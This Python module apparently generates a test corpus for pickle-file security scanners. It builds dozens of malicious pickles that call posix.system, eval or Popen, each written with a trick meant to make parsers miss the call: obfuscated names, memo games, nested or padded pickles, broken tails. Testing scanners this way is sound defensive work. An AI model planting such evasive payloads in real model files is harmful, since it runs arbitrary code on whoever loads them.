"""Tricks of the pickle machine itself: how the same call is written so that parsers lose it."""

from __future__ import annotations

import base64
import struct
import zlib
from typing import TYPE_CHECKING, Final

from bench.scan_corpus.assembling import (
    PROTO_2,
    PROTO_4,
    STOP,
    named,
    of,
    plain,
    put,
    shell,
    stacked,
    text,
    whole,
)
from bench.scan_corpus.sample import CANARY, CODE, SHELL, TRICK, UNKNOWN, Sample, write_bytes

if TYPE_CHECKING:
    from collections.abc import Iterator

_CALL: Final = shell().opcodes
_ARGUMENTS: Final = put((SHELL,))
#: The payload has run when what stands behind it is read.
_RAN: Final = PROTO_4 + _CALL + b"0"
_POSIX: Final = "posix"

# name, kind, source, bytes, proof
_ROW = tuple[str, str, str, bytes, str]

_PROTOCOLS: Final[tuple[_ROW, ...]] = (
    ("protocol-0", "plain", "pickle documentation",
     b"cposix\nsystem\n(S'" + SHELL.encode() + b"'\ntR.", CANARY),
    ("protocol-1", "plain", "pickle documentation",
     b"cposix\nsystem\nU" + bytes([len(SHELL)]) + SHELL.encode() + b"\x85R.", CANARY),
    ("protocol-2", "plain", "pickle documentation", whole(shell(), proto=PROTO_2), CANARY),
    ("protocol-3", "plain", "pickle documentation", whole(shell(), proto=b"\x80\x03"), CANARY),
    ("protocol-4", "plain", "pickle documentation",
     PROTO_4 + stacked(_POSIX, "system") + _ARGUMENTS + b"R.", CANARY),
    ("protocol-5", "plain", "pickle documentation",
     b"\x80\x05" + stacked(_POSIX, "system") + _ARGUMENTS + b"R.", CANARY),
    ("no-protocol", "protocol", "own", stacked(_POSIX, "system") + _ARGUMENTS + b"R.", CANARY),
    ("protocol-repeated", "protocol", "own",
     PROTO_4 + b"\x80\x00\x80\x05\x80\x02" + _CALL + STOP, CANARY),
    ("protocol-too-high-later", "protocol", "own", _RAN + b"\x80\xffN.", CANARY),
    ("protocol-1-with-frames", "protocol", "own",
     b"\x80\x01\x95" + struct.pack("<Q", len(_CALL) + 1) + _CALL + STOP, CANARY),
    ("python-2-names", "protocol", "picklescan _unsafe_globals",
     PROTO_2 + named("__builtin__", "eval") + put((CODE,)) + b"R.", CANARY),
    ("python-2-urllib", "protocol", "own",
     PROTO_2 + named("urllib2", "urlopen") + put(("data:,x",)) + b"R.", "audit:urllib.Request"),
    ("python-2-cpickle", "protocol", "picklescan malicious13a",
     PROTO_2 + named("cPickle", "loads") + put((whole(shell()),)) + b"R.", CANARY),
    ("python-2-apply", "protocol", "Slaviero 2011",
     PROTO_2 + named("__builtin__", "apply") + named("posix", "system") + _ARGUMENTS
     + b"\x86R.", ""),
)  # fmt: skip

_CALLS: Final[tuple[_ROW, ...]] = (
    ("inst", "other call opcodes", "picklescan malicious10",
     b"(S'" + SHELL.encode() + b"'\niposix\nsystem\n.", CANARY),
    ("obj", "other call opcodes", "fickling #108",
     b"(cposix\nsystem\nS'" + SHELL.encode() + b"'\no.", CANARY),
    ("obj-then-pop", "other call opcodes", "fickling GHSA-mxhj-88fx-4pcv",
     PROTO_4 + b"(" + named(_POSIX, "system") + text(SHELL) + b"o0N.", CANARY),
    ("reduce-then-pop-mark", "other call opcodes", "fickling GHSA-mxhj-88fx-4pcv",
     PROTO_4 + b"(" + _CALL + b"1N.", CANARY),
    ("newobj-map-tuple", "other call opcodes", "own",
     PROTO_4 + stacked("builtins", "tuple") + stacked("builtins", "map")
     + put((of(_POSIX, "system"), [SHELL])) + b"\x81\x85\x81.", CANARY),
    ("newobj-ex-map-bytes", "other call opcodes", "own",
     PROTO_4 + stacked("builtins", "tuple") + stacked("builtins", "map")
     + put((of(_POSIX, "system"), [SHELL])) + b"}\x92\x85}\x92.", CANARY),
    ("newobj-popen", "other call opcodes", "own",
     PROTO_4 + stacked("subprocess", "Popen") + b")\x81.", "audit:pickle.find_class"),
    ("call-in-dictionary-key", "places", "own",
     PROTO_4 + b"}" + _CALL + b"K\x01s.", CANARY),
    ("call-in-tuple-of-tuple", "places", "own", PROTO_4 + _CALL + b"\x85\x85\x85.", CANARY),
    ("call-in-persistent-id", "places", "own", PROTO_4 + _CALL + b"Q.", CANARY),
    ("call-in-frozenset", "places", "own", PROTO_4 + b"(" + _CALL + b"\x91.", CANARY),
    ("call-in-additems", "places", "own", PROTO_4 + b"\x8f(" + _CALL + b"\x90.", CANARY),
    ("call-in-build-state", "places", "own",
     PROTO_4 + of("argparse", "Namespace")().opcodes + b"}" + text("x") + _CALL + b"sb.", CANARY),
    ("call-unused-below", "places", "own", PROTO_4 + _CALL + put({"weights": [1.0]}) + STOP,
     CANARY),
    ("extension-registered", "extension registry", "own",
     PROTO_4 + of("copyreg", "add_extension")(_POSIX, "system", 117).opcodes + b"0\x82\x75"
     + _ARGUMENTS + b"R.", CANARY),
    ("extension-two-bytes", "extension registry", "own",
     PROTO_4 + b"\x83\x34\x12" + _ARGUMENTS + b"R.", ""),
    ("extension-four-bytes", "extension registry", "own",
     PROTO_4 + b"\x84\x34\x12\x00\x00" + _ARGUMENTS + b"R.", ""),
)  # fmt: skip

_NAMES: Final[tuple[_ROW, ...]] = (
    ("strings-for-stack-global", "names", "picklescan GHSA-9gvj-pp9x-gcfr",
     b"S'posix'\nS'system'\n\x93S'" + SHELL.encode() + b"'\n\x85R.", CANARY),
    ("short-binstrings", "names", "modelscan #313",
     b"U\x05posixU\x06system\x93" + _ARGUMENTS + b"R.", CANARY),
    ("binstrings", "names", "modelscan #313",
     b"T\x05\0\0\0posixT\x06\0\0\0system\x93" + _ARGUMENTS + b"R.", CANARY),
    ("unicode-escapes", "names", "own",
     b"V\\u0070osix\nVs\\u0079stem\n\x93" + _ARGUMENTS + b"R.", CANARY),
    ("string-escapes", "names", "own",
     b"S'\\x70osix'\nS'sys\\x74em'\n\x93" + _ARGUMENTS + b"R.", CANARY),
    ("long-binunicode", "names", "own",
     b"X\x05\0\0\0posix\x8d\x06\0\0\0\0\0\0\0system\x93" + _ARGUMENTS + b"R.", CANARY),
    ("names-by-memo", "memo", "picklescan #22 (Safe Pickle)",
     b"Vposix\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93"
     + _ARGUMENTS + b"R.", CANARY),
    ("memoize-beside-put", "memo", "picklescan #14",
     text(_POSIX) + b"q\x00" + text("system") + b"q\x01" + text("torch._utils") + b"\x94"
     + text("_rebuild_tensor_v2") + b"\x94h\x00h\x01\x93" + _ARGUMENTS + b"R.", CANARY),
    ("memo-overwritten", "memo", "own",
     text("collections") + b"q\x00" + text("OrderedDict") + b"q\x010" + b"0" + text(_POSIX)
     + b"q\x000" + text("system") + b"q\x010h\x00h\x01\x93" + _ARGUMENTS + b"R.", CANARY),
    ("memo-long-and-short", "memo", "own",
     text(_POSIX) + b"r\x2c\x01\0\x000" + text("system") + b"p301\n0j\x2c\x01\0\0g301\n\x93"
     + _ARGUMENTS + b"R.", CANARY),
    ("memo-of-function", "memo", "own",
     PROTO_4 + stacked(_POSIX, "system") + b"\x940" + put([1, 2, 3]) + b"0h\x00" + _ARGUMENTS
     + b"R.", CANARY),
    ("duplicated-name", "stack", "own",
     PROTO_4 + text(_POSIX) + text("system") + b"2" + b"0\x93" + _ARGUMENTS + b"R.", CANARY),
    ("mark-between-names", "stack", "own",
     PROTO_4 + text(_POSIX) + b"(" + text("x") + b"1" + text("system") + b"\x93" + _ARGUMENTS
     + b"R.", CANARY),
    ("junk-between-names", "stack", "own",
     PROTO_4 + text(_POSIX) + put([1]) + b"0" + text("system") + b"(K\x01K\x021\x93"
     + _ARGUMENTS + b"R.", CANARY),
    ("name-made-by-call", "names", "own",
     PROTO_4 + text(_POSIX) + of("codecs", "decode")(b"flfgrz", "rot13").opcodes + b"\x93"
     + _ARGUMENTS + b"R.", ""),
    ("name-made-by-str", "names", "own",
     PROTO_4 + of("builtins", "str")(b"posix", "ascii").opcodes
     + of("builtins", "str")(b"system", "ascii").opcodes + b"\x93" + _ARGUMENTS + b"R.", CANARY),
    ("command-made-by-call", "names", "own",
     PROTO_4 + of(_POSIX, "system")(of("builtins", "str")(SHELL.encode(), "ascii")).opcodes
     + STOP, CANARY),
    ("name-with-unicode", "names", "own",
     PROTO_4 + stacked("posix", "système") + STOP, ""),
)  # fmt: skip

_NUMBERS: Final[tuple[_ROW, ...]] = (
    ("int-hexadecimal", "numbers", "own (CPython's C unpickler reads base 0)",
     b"I0x10\n0" + _CALL + STOP, CANARY),
    ("int-octal-like", "numbers", "own", b"I010\n0" + _CALL + STOP, CANARY),
    ("int-with-nul", "numbers", "own", b"I1\0junk\n0" + _CALL + STOP, CANARY),
    ("int-with-blanks", "numbers", "own", b"I  12\n0" + _CALL + STOP, CANARY),
    ("int-boolean", "numbers", "own", b"I01\n0" + _CALL + STOP, CANARY),
    ("long-hexadecimal", "numbers", "own", b"L0x10L\n0" + _CALL + STOP, CANARY),
    ("long-with-underscore", "numbers", "own", b"L1_0L\n0" + _CALL + STOP, CANARY),
    ("float-odd", "numbers", "own", b"Finf\n0" + _CALL + STOP, CANARY),
    ("long1-empty", "numbers", "own", PROTO_4 + b"\x8a\x000" + _CALL + STOP, CANARY),
    ("string-double-quotes", "numbers", "own", b'S"a"\n0' + _CALL + STOP, CANARY),
    ("unicode-surrogate", "numbers", "own", b"V\\ud800\n0" + _CALL + STOP, CANARY),
    ("bytearray8", "numbers", "own",
     b"\x80\x05\x96\x03\0\0\0\0\0\0\0abc0" + _CALL + STOP, CANARY),
    ("binunicode-surrogate", "numbers", "own",
     PROTO_4 + b"X\x03\0\0\0\xed\xa0\x800" + _CALL + STOP, CANARY),
)  # fmt: skip

_FRAMES: Final[tuple[_ROW, ...]] = (
    ("frame-too-short", "frames", "own",
     PROTO_4 + b"\x95" + struct.pack("<Q", 4) + _CALL + STOP, CANARY),
    ("frame-empty", "frames", "own",
     PROTO_4 + b"\x95" + struct.pack("<Q", 0) + _CALL + STOP, CANARY),
    ("frame-in-frame", "frames", "own",
     PROTO_4 + b"\x95" + struct.pack("<Q", 9 + len(_CALL) + 1) + b"\x95"
     + struct.pack("<Q", len(_CALL) + 1) + _CALL + STOP, CANARY),
    ("frame-too-long-later", "frames", "own",
     _RAN + b"\x95" + struct.pack("<Q", 1 << 40) + b"N.", CANARY),
    ("tail-missing", "broken behind the payload", "ReversingLabs 2025 (nullifAI)", _RAN, CANARY),
    ("tail-unknown-opcode", "broken behind the payload", "ReversingLabs 2025 (nullifAI)",
     _RAN + b"\xff\xfe\xfd", CANARY),
    ("tail-text", "broken behind the payload", "ReversingLabs 2025 (nullifAI)",
     _RAN + b"X>\n not a pickle at all\n", CANARY),
    ("tail-memo-missing", "broken behind the payload", "picklescan keyerror-exploit",
     _RAN + b"h\x09h\x08\x93.", CANARY),
    ("tail-type-confusion", "broken behind the payload", "picklescan type-confusion-exploit",
     _RAN + b"K\x2a\x94" + text("os") + b"\x94h\x00h\x01\x93.", CANARY),
    ("tail-stack-underflow", "broken behind the payload", "own", _RAN + b"R.", CANARY),
    ("tail-truncated-string", "broken behind the payload", "picklescan broken_model",
     _RAN + b"X\xff\xff\xff\x7fabc", CANARY),
    ("tail-huge-length", "broken behind the payload", "own",
     _RAN + b"\x8e" + struct.pack("<Q", 1 << 62) + b"abc", CANARY),
    ("tail-bad-global", "broken behind the payload", "own",
     _RAN + named("everybit_absent", "nothing") + STOP, CANARY),
    ("tail-bad-utf8", "broken behind the payload", "picklescan not_a_pickle",
     _RAN + b"cmod\n\xf8\n.", CANARY),
    ("tail-negative-length", "broken behind the payload", "own",
     _RAN + b"\x8b\xff\xff\xff\xffabc.", CANARY),
    ("tail-no-mark", "broken behind the payload", "own", _RAN + b"Nt.", CANARY),
)  # fmt: skip


def _nested(depth: int) -> bytes:
    data = whole(shell())
    for _ in range(depth):
        data = whole(of("pickle", "loads")(data))
    return data


def _sizes() -> tuple[_ROW, ...]:
    many = b"".join(b"K\x01" for _ in range(200_000))
    return (
        ("behind-many-opcodes", "size", "modelscan #338",
         PROTO_4 + b"](" + many + b"e0" + _CALL + STOP, CANARY),
        ("behind-large-bytes", "size", "own",
         PROTO_4 + put(bytes(3 << 20)) + b"0" + _CALL + STOP, CANARY),
        ("behind-deep-lists", "size", "own",
         PROTO_4 + b"]" * 20_000 + b"a" * 19_999 + b"0" + _CALL + STOP, CANARY),
        ("behind-many-memos", "size", "own",
         PROTO_4 + b"N\x940" * 50_000 + _CALL + STOP, CANARY),
        ("nested-once", "nested pickles", "modelscan #267", _nested(1), CANARY),
        ("nested-five", "nested pickles", "own", _nested(5), CANARY),
        ("nested-by-base64", "nested pickles", "modelaudit #153",
         whole(of("pickle", "loads")(of("base64", "b64decode")(
             base64.b64encode(whole(shell()))))), CANARY),
        ("nested-by-zlib", "nested pickles", "own",
         whole(of("_pickle", "loads")(of("zlib", "decompress")(
             zlib.compress(whole(shell()))))), CANARY),
        ("nested-by-bytesio", "nested pickles", "own",
         whole(of("pickle", "load")(of("io", "BytesIO")(whole(shell())))), CANARY),
        ("nested-by-unpickler", "nested pickles", "own",
         whole(of("pickle", "Unpickler.load")(
             of("pickle", "_Unpickler")(of("io", "BytesIO")(whole(shell()))))), ""),
        ("second-of-two", "several pickles in a file", "picklescan malicious6",
         plain(["a", "b"]) + whole(shell()), CANARY),
        ("first-of-two", "several pickles in a file", "own",
         whole(shell()) + plain(["a", "b"]), CANARY),
        ("ninth-of-nine", "several pickles in a file", "own",
         plain({"a": 1}) * 8 + whole(shell()), CANARY),
        ("after-padding", "several pickles in a file", "fickling test_polyglot",
         whole(shell()) + bytes(4096), CANARY),
    )  # fmt: skip


def samples() -> Iterator[Sample]:
    """One file for each trick."""
    for table in (_PROTOCOLS, _CALLS, _NAMES, _NUMBERS, _FRAMES, _sizes()):
        for name, kind, source, data, proof in table:
            expect: tuple[str, ...] = ("PKL201",)
            if name in ("extension-two-bytes", "extension-four-bytes", "name-with-unicode"):
                expect = (*UNKNOWN, "PKL203")
            yield Sample(
                name=f"stream-{name}.pkl",
                kind=f"pickle machine: {kind}",
                source=source,
                write=write_bytes(data),
                expect=expect if name != "python-2-apply" else (*UNKNOWN, *TRICK),
                loader=("pickles" if "several" in kind else "pickle") if proof else "",
                proof=proof,
            )
